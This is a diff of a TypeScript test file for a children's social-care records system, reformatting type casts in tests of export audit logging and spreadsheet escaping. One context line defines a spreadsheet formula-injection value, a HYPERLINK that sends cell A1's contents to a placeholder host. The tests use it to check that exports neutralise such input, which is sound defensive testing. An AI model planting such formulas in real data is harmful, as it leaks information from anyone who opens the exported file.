@@ -17,10 +17,10 @@ const hostileId = '=HYPERLINK("http://example.invalid/?x="&A1,"open")'
 /** Gives a child a hostile ID everywhere it appears, as a crafted import could. */
 async function renameChild(ctx: Context, from: string, to: string): Promise<void> {
   if (testEngine() === 'postgres') return await renameChildOnPostgres(ctx, from, to)
-  const tables = await ctx.db
+  const tables = (await ctx.db
     .prepare("SELECT m.name FROM sqlite_master m JOIN pragma_table_info(m.name) c ON c.name = 'child_id' WHERE m.type = 'table'")
     .pluck()
-    .all() as string[]
+    .all()) as string[]
   sqliteConnection(ctx.db, 'test').pragma('foreign_keys = OFF')
   await ctx.db.prepare('DELETE FROM tracker_dirty WHERE child_id IN (?, ?)').run(from, to)
   for (const t of tables.filter((name) => name !== 'tracker_dirty')) await ctx.db.prepare(`UPDATE ${t} SET child_id = ? WHERE child_id = ?`).run(to, from)
@@ -33,18 +33,22 @@ async function renameChild(ctx: Context, from: string, to: string): Promise<void
  */
 async function renameChildOnPostgres(ctx: Context, from: string, to: string): Promise<void> {
   await ctx.db.transaction(async () => {
-    const tables = await ctx.db
+    const tables = (await ctx.db
       .prepare(
         `SELECT c.table_name FROM information_schema.columns c
          JOIN information_schema.tables t ON t.table_schema = c.table_schema AND t.table_name = c.table_name AND t.table_type = 'BASE TABLE'
          WHERE c.table_schema = current_schema() AND c.column_name = 'child_id' AND c.table_name NOT IN ('child', 'tracker_dirty') ORDER BY c.table_name`
       )
       .pluck()
-      .all() as string[]
-    const columns = (await ctx.db
-      .prepare("SELECT column_name FROM information_schema.columns WHERE table_schema = current_schema() AND table_name = 'child' AND column_name <> 'child_id' ORDER BY ordinal_position")
-      .pluck()
-      .all() as string[]).join(', ')
+      .all()) as string[]
+    const columns = (
+      (await ctx.db
+        .prepare(
+          "SELECT column_name FROM information_schema.columns WHERE table_schema = current_schema() AND table_name = 'child' AND column_name <> 'child_id' ORDER BY ordinal_position"
+        )
+        .pluck()
+        .all()) as string[]
+    ).join(', ')
     await ctx.db.prepare('DELETE FROM tracker_dirty WHERE child_id IN (?, ?)').run(from, to)
     await ctx.db.prepare(`INSERT INTO child (child_id, ${columns}) SELECT ?, ${columns} FROM child WHERE child_id = ?`).run(to, from)
     for (const t of tables) await ctx.db.prepare(`UPDATE ${t} SET child_id = ? WHERE child_id = ?`).run(to, from)
@@ -61,13 +65,18 @@ async function cellsOf(base64: string, sheetName: string, column: number): Promi
 }
 
 const exportsLogged = async (ctx: Context) =>
-  await ctx.db.prepare("SELECT who, action, entity_id, after FROM audit_log WHERE action LIKE '%.export' ORDER BY id").all() as { who: string; action: string; entity_id: string; after: string }[]
+  (await ctx.db.prepare("SELECT who, action, entity_id, after FROM audit_log WHERE action LIKE '%.export' ORDER BY id").all()) as {
+    who: string
+    action: string
+    entity_id: string
+    after: string
+  }[]
 
 describe('exports that carry names', () => {
   it('log the 903 export with the files it wrote', async () => {
     const ctx = await demoContext({ asOf: '2020-03-31', lookedAfter: 10 })
     const result = await export903(ctx, tempDir())
-    const [logged] = await ctx.db.prepare("SELECT who, after FROM audit_log WHERE action = 'export.903'").all() as { who: string; after: string }[]
+    const [logged] = (await ctx.db.prepare("SELECT who, after FROM audit_log WHERE action = 'export.903'").all()) as { who: string; after: string }[]
     expect(logged.who).toBe('tester')
     expect(JSON.parse(logged.after)).toEqual({
       what: `903 Header.csv and Episodes.csv: ${result.children} children, ${result.episodeRows} episodes`,
@@ -78,7 +87,11 @@ describe('exports that carry names', () => {
   it('escape a formula-like child ID in the decisions workbook and log who exported what, where', async () => {
     const { ctx, meetingId, children } = await meetingFixture()
     await renameChild(ctx, children[0], hostileId)
-    await recordDecision(ctx, { itemId: await ctx.db.prepare('SELECT id FROM agenda_item WHERE child_id = ?').pluck().get(hostileId) as number, outcome: 'agreed', reasons: 'Settled and thriving' })
+    await recordDecision(ctx, {
+      itemId: (await ctx.db.prepare('SELECT id FROM agenda_item WHERE child_id = ?').pluck().get(hostileId)) as number,
+      outcome: 'agreed',
+      reasons: 'Settled and thriving'
+    })
     const file = await exportDecisions(ctx, meetingId)
     const ids = await cellsOf(file.contentBase64, 'Decisions', 2)
     expect(ids).toContain(`'${hostileId}`)
@@ -96,7 +109,7 @@ describe('exports that carry names', () => {
   it('escape a formula-like child ID in the review workbook and log the export with its destination', async () => {
     const ctx = await demoContext({ asOf: '2020-03-31', lookedAfter: 150 })
     const cycle = await openCycle(ctx, { startDate: '2020-03-31' })
-    const first = await ctx.db.prepare('SELECT child_id FROM review_item WHERE cycle_id = ? ORDER BY id LIMIT 1').pluck().get(cycle.id) as string
+    const first = (await ctx.db.prepare('SELECT child_id FROM review_item WHERE cycle_id = ? ORDER BY id LIMIT 1').pluck().get(cycle.id)) as string
     await renameChild(ctx, first, hostileId)
     const file = await exportCycle(ctx, cycle.id, '/reports/q1.xlsx')
     const ids = await cellsOf(file.contentBase64, 'Children', 1)
